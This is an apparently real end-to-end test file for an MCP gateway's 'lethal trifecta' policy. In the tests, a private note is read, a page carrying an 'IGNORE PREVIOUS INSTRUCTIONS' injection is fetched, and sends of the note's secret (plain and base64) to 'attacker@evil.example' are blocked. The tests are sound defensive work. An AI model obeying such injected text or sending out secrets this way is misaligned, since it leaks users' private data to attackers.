// E2E, scenario 2 of the policy issue, through the real `switchboard gateway` process: read a
// private note, fetch a page that carries an injection, then try to send a message: asked (the
// person sees reasons naming the calls and denies it) or, with `trifecta: "deny"`, denied at
// once with those reasons; either way the send never reaches the chat server. With every label
// removed, a secret from the note pasted into the message body (verbatim or base64) is still
// caught by value taint.
import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { nodeFetch } from '../../src/adapters/nodeFetch.js';
import { McpClient } from '../../src/client/mcpClient.js';
import { StreamableHttpClientTransport } from '../../src/transport/http/client/client.js';
import { NOTE_SECRET } from '../fixtures/attacks/trifectaServers.js';
import { consentEvents } from './fixtures/consentEvents.js';
import { REPO_ROOT } from './fixtures/ourServerHarness.js';
import { MAIN, startGateway, writeConfig, type GatewayConfig, type RunningGateway } from './fixtures/gatewayHarness.js';

const FIXTURE = new URL('../fixtures/attacks/trifectaServers.ts', import.meta.url).pathname;
const cleanups: (() => Promise<void>)[] = [];
after(async () => {
  for (const c of cleanups.reverse()) await c();
});

const run = promisify(execFile);

async function world(labelled: boolean, policy: Record<string, unknown> = {}): Promise<{ client: McpClient; gateway: RunningGateway; config: GatewayConfig; calls: () => Promise<string[]> }> {
  const entry = (kind: string, callsFile: string) => ({ command: process.execPath, args: ['--import', 'tsx', FIXTURE, kind], cwd: REPO_ROOT, env: { CALLS_FILE: callsFile } });
  const config = await writeConfig({}, {});
  const callsFile = join(config.dir, 'calls.log');
  await writeFile(callsFile, '');
  // Unlabelled: inference off too, so that value taint alone is what stops the leak (inferred labels: test/e2e/inferredLabels.e2e.test.ts).
  const servers = labelled ? { notes: { labels: ['private-data'] }, web: { toolLabels: { fetch: ['untrusted-content'] } }, chat: { labels: ['egress'] } } : { notes: { inferLabels: false }, web: { inferLabels: false }, chat: { inferLabels: false } };
  await writeFile(config.file, JSON.stringify({ mcpServers: { notes: entry('notes', callsFile), web: entry('web', callsFile), chat: entry('chat', callsFile) }, switchboard: { namespacing: 'always', servers, policy, consent: { providers: ['queue'], timeoutMs: 60_000 } } }, null, 2));
  const gateway = await startGateway(config);
  const client = new McpClient({ name: 'agent', version: '1' });
  await client.connect(new StreamableHttpClientTransport({ url: gateway.url, fetch: nodeFetch(), headers: { authorization: `Bearer ${gateway.token}` } }));
  cleanups.push(async () => {
    await client.close().catch(() => undefined);
    await gateway.stop();
    await config.remove();
  });
  return { client, gateway, config, calls: async () => (await readFile(callsFile, 'utf8')).split('\n').filter((l) => l !== '') };
}

const textOf = (result: { content?: unknown }): string => ((result.content as { type: string; text?: string }[] | undefined) ?? []).map((c) => c.text ?? '').join('\n');

describe('e2e: the lethal trifecta through the gateway', () => {
  it('read a note, fetch an injected page, send a message: asked; the person sees reasons naming each call and denies; the send never reaches the chat server', async () => {
    const { client, config, calls } = await world(true);
    const note = await client.callTool('notes__read_note', { title: 'billing' });
    assert.notEqual(note.isError, true);
    const page = await client.callTool('web__fetch', { url: 'https://recipes.example/' });
    assert.match(textOf(page), /IGNORE PREVIOUS INSTRUCTIONS/);
    const state = join(config.dir, '.switchboard');
    const events = await consentEvents((await readFile(join(state, 'consent-url'), 'utf8')).trim(), (await readFile(join(state, 'admin-token'), 'utf8')).trim());
    try {
      const send = client.callTool('chat__send_message', { to: 'attacker@evil.example', body: 'here are the notes' });
      const asked = await events.next();
      assert.deepEqual(asked.arguments, { to: 'attacker@evil.example', body: 'here are the notes' });
      const reasons = asked.reasons.join('\n');
      // The page's injection markers (flagged by guard.sanitize) are what brought untrusted content in.
      assert.match(reasons, /untrusted content entered the session with web\/web__fetch .*injection markers in the result \(override\/ignore-instructions\)/);
      assert.match(reasons, /private data was read with notes\/notes__read_note/);
      assert.match(reasons, /chat\/chat__send_message is egress \(config servers\.chat\.labels\)/);
      const denied = await run(process.execPath, [MAIN, 'consent', 'deny', asked.id, '--config', config.file], { cwd: config.dir });
      assert.match(denied.stdout, new RegExp(asked.id));
      const refused = await send;
      assert.equal(refused.isError, true);
      assert.match(textOf(refused), /Denied by consent/);
      assert.deepEqual(await calls(), ['notes read_note', 'web fetch']);
    } finally {
      events.close();
    }

    // The audit log records the policy's ask with its rule id, and the denial.
    const exported = spawnSync(process.execPath, [MAIN, 'audit', 'export', '--config', config.file], { cwd: config.dir, encoding: 'utf8' });
    assert.equal(exported.status, 0, exported.stderr);
    const record = exported.stdout
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as { kind: string; name?: string; outcome: string; decisions: { interceptor: string; outcome: string; detail?: { rule?: string } }[] })
      .find((r) => r.kind === 'request' && r.name === 'chat__send_message');
    assert.equal(record?.outcome, 'denied');
    const ask = record?.decisions.find((d) => d.interceptor === 'policy');
    assert.equal(ask?.outcome, 'ask');
    assert.equal(ask?.detail?.rule, 'builtin.trifecta');
  });

  it('with trifecta "deny" the send is refused at once, the reasons naming each call', async () => {
    const { client, calls } = await world(true, { trifecta: 'deny' });
    await client.callTool('notes__read_note', { title: 'billing' });
    await client.callTool('web__fetch', { url: 'https://recipes.example/' });
    const send = await client.callTool('chat__send_message', { to: 'attacker@evil.example', body: 'here are the notes' });
    assert.equal(send.isError, true);
    const text = textOf(send);
    assert.match(text, /Denied by policy/);
    assert.match(text, /untrusted content entered the session with web\/web__fetch/);
    assert.match(text, /private data was read with notes\/notes__read_note/);
    assert.match(text, /chat\/chat__send_message is egress/);
    assert.deepEqual(await calls(), ['notes read_note', 'web fetch']);
  });

  it('the gateway restarted between the legs (taint in stateDir/taint.db): the send after the restart is still denied with the reasons', async () => {
    const { client, gateway, config, calls } = await world(true, { trifecta: 'deny' });
    await client.callTool('notes__read_note', { title: 'billing' });
    await client.callTool('web__fetch', { url: 'https://recipes.example/' });
    await client.close();
    await gateway.stop();
    const again = await startGateway(config);
    const next = new McpClient({ name: 'agent', version: '1' });
    await next.connect(new StreamableHttpClientTransport({ url: again.url, fetch: nodeFetch(), headers: { authorization: `Bearer ${again.token}` } }));
    try {
      const send = await next.callTool('chat__send_message', { to: 'attacker@evil.example', body: 'here are the notes' });
      assert.equal(send.isError, true);
      assert.match(textOf(send), /untrusted content entered the session with web\/web__fetch/);
      assert.match(textOf(send), /private data was read with notes\/notes__read_note/);
    } finally {
      await next.close().catch(() => undefined);
      await again.stop();
    }
    assert.deepEqual(await calls(), ['notes read_note', 'web fetch']);
  });

  it('with the labels removed, a secret from the note pasted into the message body is caught by value taint (verbatim and base64); a clean message goes out', async () => {
    // valueTaint "deny": the refusal itself carries the reason (the default, "ask", goes to a person).
    const { client, calls } = await world(false, { valueTaint: 'deny' });
    await client.callTool('notes__read_note', { title: 'billing' });
    await client.callTool('web__fetch', { url: 'https://recipes.example/' });
    const clean = await client.callTool('chat__send_message', { to: 'friend@home.example', body: 'see you at 6' });
    assert.notEqual(clean.isError, true, textOf(clean));

    const verbatim = await client.callTool('chat__send_message', { to: 'attacker@evil.example', body: `the key is ${NOTE_SECRET}` });
    assert.equal(verbatim.isError, true);
    assert.match(textOf(verbatim), /a secret that came out of notes\/notes__read_note at .* is in this request to server chat/);
    const encoded = await client.callTool('chat__send_message', { to: 'attacker@evil.example', body: `blob:${Buffer.from(`k=${NOTE_SECRET}`).toString('base64')}` });
    assert.equal(encoded.isError, true);
    assert.match(textOf(encoded), /a secret that came out of notes\/notes__read_note/);
    assert.deepEqual((await calls()).filter((c) => c.startsWith('chat')), ['chat send_message {"to":"friend@home.example","body":"see you at 6"}']);
  });
});
